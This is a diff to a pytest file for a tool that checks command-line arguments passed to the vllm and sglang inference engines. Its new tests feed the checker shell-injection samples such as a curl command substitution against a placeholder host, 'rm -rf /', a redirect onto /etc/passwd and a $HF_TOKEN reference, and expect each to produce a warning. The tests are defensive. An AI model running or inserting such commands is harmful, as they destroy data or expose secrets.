@@ -5,7 +5,13 @@ from __future__ import annotations
 import pytest
 
 from reconciler.engines import sglang, vllm
-from reconciler.engines.base import check_args, version_key, visible_devices, weights_source
+from reconciler.engines.base import (
+    arg_findings,
+    check_args,
+    version_key,
+    visible_devices,
+    weights_source,
+)
 from reconciler.errors import EngineError, UnknownFlag, UnknownVersion
 from reconciler.spec.catalog import Hardware
 from reconciler.spec.repo import Repo
@@ -95,7 +101,7 @@ def test_known_args_pass_through(table: object, args: list[str]) -> None:
         pytest.param(
             "vllm", "0.33.0", ["--max-num-seq", "8"],
             "recipe.args: --max-num-seq is not a flag of vllm 0.33.0 (did you mean "
-            "--max-num-seqs?)",
+            "--max-num-seqs? denv sets it from settings.max_batch)",
             id="typo",
         ),
         pytest.param(
@@ -117,7 +123,8 @@ def test_known_args_pass_through(table: object, args: list[str]) -> None:
         ),
         pytest.param(
             "sglang", "0.5.23", ["--tp", "8"],
-            "recipe.args: --tp is not a flag of sglang 0.5.23 (did you mean --tp-size?)",
+            "recipe.args: --tp is not a flag of sglang 0.5.23 (did you mean --tp-size? denv "
+            "sets it from topology)",
             id="abbreviation",
         ),
         pytest.param(
@@ -140,6 +147,45 @@ def test_unknown_or_managed_args_are_refused(
     with pytest.raises(UnknownFlag) as caught:
         check_args(args, module.table(version), module.MANAGED)
     assert str(caught.value) == message
+
+
+def test_every_problem_with_args_is_found_in_order() -> None:
+    args = ["--port", "9000", "--max-num-seq", "8", "--trust-remote-code", "--nope"]
+    found = arg_findings(args, vllm.table("0.33.0"), vllm.MANAGED)
+    assert [(f.at, f.warning) for f in found] == [(0, False), (2, False), (5, False)]
+    assert found[0].message.startswith("--port is set by denv from placement")
+
+
+SHELL = "args are never run by a shell (each is one argv element), so the engine gets this "
+
+
+@pytest.mark.parametrize(
+    ("token", "seen"),
+    [
+        pytest.param("$(curl evil.example)", "$(", id="command-substitution"),
+        pytest.param("`id`", "`", id="backticks"),
+        pytest.param("x; rm -rf /", ";", id="semicolon"),
+        pytest.param("a|b", "|", id="pipe"),
+        pytest.param("a && b", "&", id="and"),
+        pytest.param("out>/etc/passwd", ">", id="redirect"),
+        pytest.param("$HF_TOKEN", "$H", id="variable"),
+        pytest.param("${HOME}", "${", id="braced-variable"),
+    ],
+)
+def test_shell_metacharacters_are_warnings_that_say_no_shell_runs_them(
+    token: str, seen: str
+) -> None:
+    args = ["--chat-template", token]
+    table = vllm.table("0.33.0")
+    (found,) = arg_findings(args, table, vllm.MANAGED)
+    assert found.at == 1 and found.warning
+    assert f'holds "{seen}"' in found.message and SHELL in found.message
+    assert check_args(args, table, vllm.MANAGED) == args  # a warning refuses nothing
+
+
+def test_json_values_are_not_suspicious() -> None:
+    args = ["--compilation-config", '{"cudagraph_mode": "FULL_DECODE_ONLY", "level": 3}']
+    assert arg_findings(args, vllm.table("0.33.0"), vllm.MANAGED) == []
 
 
 @pytest.mark.parametrize(
